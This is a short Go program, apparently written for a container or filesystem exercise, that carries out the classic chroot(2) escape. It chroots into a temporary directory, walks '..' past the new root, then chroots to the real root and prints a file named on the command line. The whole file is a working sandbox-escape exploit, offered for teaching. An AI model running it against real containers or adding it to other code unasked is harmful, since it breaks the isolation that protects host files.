// Command breakout is the classic escape from chroot(2), for the exercise
// in docs/03-mount.md. chroot changes only where "/" resolves for this
// process; it does not move the current directory. So: chroot into a
// subdirectory while the current directory stays outside it, walk ".."
// up past the new root (the kernel only stops ".." at the process's root,
// and we are no longer under it), and chroot to where we end up: the real
// root. It needs CAP_SYS_CHROOT, which root in a container usually has.
//
//	breakout FILE    prints FILE as seen from the escaped root
package main

import (
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: breakout FILE")
		os.Exit(2)
	}
	dir, err := os.MkdirTemp("/tmp", "breakout-")
	if err != nil {
		fail("mkdtemp", err)
	}
	if err := unix.Chroot(dir); err != nil { // cwd stays outside dir
		fail("chroot "+dir, err)
	}
	for i := 0; i < 256; i++ {
		if err := unix.Chdir(".."); err != nil {
			fail("chdir ..", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		fail("chroot .", err)
	}
	b, err := os.ReadFile(os.Args[1])
	if err != nil {
		fmt.Printf("contained: %v\n", err)
		os.Exit(1)
	}
	fmt.Printf("escaped: %s", b)
}

func fail(op string, err error) {
	fmt.Fprintf(os.Stderr, "breakout: %s: %v\n", op, err)
	os.Exit(3)
}
